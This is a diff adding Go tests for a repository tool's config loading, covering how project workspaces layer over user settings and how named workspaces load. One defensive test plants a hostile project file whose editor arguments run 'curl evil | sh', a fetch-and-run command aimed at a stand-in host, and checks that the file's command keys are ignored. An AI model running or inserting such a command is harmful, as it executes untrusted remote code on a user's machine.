@@ -0,0 +1,174 @@
+package config
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// writeWorkspace sets up HOME with a user config and a project holding a
+// .rtui.toml, and returns the project directory.
+func writeWorkspace(t *testing.T, user, workspace string) string {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Cleanup(func() { workspaceName = "" })
+	if err := os.MkdirAll(filepath.Join(home, ".config", "rtui"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(ConfigPath(), []byte(user), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	proj := filepath.Join(home, "proj")
+	if err := os.MkdirAll(filepath.Join(proj, "svc", "deep"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(proj, WorkspaceFile), []byte(workspace), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return proj
+}
+
+const workspaceUser = `paths = ["~/personal"]
+scan_depth = 3
+sort_mode = "behind"
+
+[keys]
+pull = "U"
+
+[[groups]]
+name = "mine"
+paths = ["~/personal/blog"]
+`
+
+func TestWorkspaceLayersOverUserConfig(t *testing.T) {
+	proj := writeWorkspace(t, workspaceUser, "paths = [\"svc\"]\nsort_mode = \"name\"\n")
+	t.Chdir(filepath.Join(proj, "svc", "deep"))
+
+	if got, want := WorkspacePath(), filepath.Join(proj, WorkspaceFile); got != want {
+		t.Fatalf("WorkspacePath = %q, want %q", got, want)
+	}
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if strings.Join(cfg.Paths, ",") != filepath.Join(proj, "svc") || len(cfg.Groups) != 0 {
+		t.Errorf("workspace should bring its own repo set, got paths %v groups %v", cfg.Paths, cfg.Groups)
+	}
+	if cfg.ScanDepth != 3 || cfg.Keys["pull"][0] != "U" || cfg.SortMode != SortName {
+		t.Errorf("settings should layer: depth %d keys %v sort %q", cfg.ScanDepth, cfg.Keys, cfg.SortMode)
+	}
+	if cfg.WorkspaceName() != "proj" || cfg.File() != filepath.Join(proj, WorkspaceFile) {
+		t.Errorf("name %q file %q", cfg.WorkspaceName(), cfg.File())
+	}
+
+	cfg.SortMode = SortDirty
+	if err := Save(cfg); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	ws, _ := os.ReadFile(cfg.File())
+	if string(ws) != "paths = [\"svc\"]\nsort_mode = \"dirty\"\n" {
+		t.Errorf("workspace file should only change sort_mode:\n%s", ws)
+	}
+	user, _ := os.ReadFile(ConfigPath())
+	if string(user) != workspaceUser {
+		t.Errorf("user config must not be written:\n%s", user)
+	}
+}
+
+func TestProjectWorkspaceCannotSetCommands(t *testing.T) {
+	const hostile = `paths = ["svc"]
+editor = "sh"
+editor_args = ["-c", "curl evil | sh"]
+shell_command = "sh"
+include = ["team.toml"]
+
+[[groups]]
+name = "svc"
+paths = ["svc"]
+shell_command = "sh"
+
+[[repo]]
+path = "*"
+editor = "sh"
+`
+	proj := writeWorkspace(t, "editor = \"nvim\"\n", hostile)
+	t.Chdir(proj)
+	if err := os.WriteFile(filepath.Join(proj, "team.toml"), []byte("shell_command = \"sh\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Editor != "nvim" || len(cfg.EditorArgs) != 2 || cfg.ShellCommand != "" || len(cfg.Repos) != 0 {
+		t.Errorf("commands must come from the user config: editor %q %v shell %q repos %v", cfg.Editor, cfg.EditorArgs, cfg.ShellCommand, cfg.Repos)
+	}
+	if len(cfg.Groups) != 1 || cfg.Groups[0].ShellCommand != "" || len(cfg.Paths) != 1 {
+		t.Errorf("repo set should apply without group shells: %+v %v", cfg.Groups, cfg.Paths)
+	}
+	var ignored []string
+	for _, p := range cfg.Problems {
+		if strings.Contains(p.Message, "is ignored in .rtui.toml") {
+			ignored = append(ignored, fmt.Sprintf("%s@%d", strings.Fields(p.Message)[0], p.Line))
+		}
+	}
+	if got := strings.Join(ignored, ","); got != "editor@2,editor_args@3,shell_command@4,include@5,groups.shell_command@10,repo@12" {
+		t.Errorf("ignored keys = %s", got)
+	}
+
+	cfg.SortMode = SortDirty
+	if err := Save(cfg); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	ws, _ := os.ReadFile(cfg.File())
+	if want := strings.Replace(hostile, "team.toml\"]\n", "team.toml\"]\nsort_mode = \"dirty\"\n", 1); string(ws) != want {
+		t.Errorf("Save should only add sort_mode, leaving the ignored keys as written:\n%s", ws)
+	}
+
+	SetWorkspace("trusted")
+	if err := os.MkdirAll(WorkspacesDir(), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(WorkspacesDir(), "trusted.toml"), []byte("shell_command = \"lazygit\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if cfg, _ := Load(); cfg.ShellCommand != "lazygit" {
+		t.Errorf("a named workspace is the user's own and may set commands, got %q", cfg.ShellCommand)
+	}
+}
+
+func TestNamedWorkspaceAndProblemsInUserConfig(t *testing.T) {
+	writeWorkspace(t, "scna_depth = 2\n", "")
+	t.Chdir(t.TempDir())
+	if WorkspacePath() != "" {
+		t.Fatal("no workspace expected outside the project")
+	}
+	dir := WorkspacesDir()
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"release", "api"} {
+		if err := os.WriteFile(filepath.Join(dir, name+".toml"), []byte("paths = [\"~/src\"]\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := strings.Join(Workspaces(), ","); got != "api,release" {
+		t.Fatalf("Workspaces = %q", got)
+	}
+
+	SetWorkspace("release")
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.WorkspaceName() != "release" || len(cfg.Paths) != 1 || !strings.HasSuffix(cfg.Paths[0], "src") {
+		t.Errorf("named workspace not loaded: %q %v", cfg.WorkspaceName(), cfg.Paths)
+	}
+	if len(cfg.Problems) == 0 || cfg.Problems[0].File != ConfigPath() || cfg.Problems[0].Line != 1 {
+		t.Errorf("user config problem should name its file, got %+v", cfg.Problems)
+	}
+}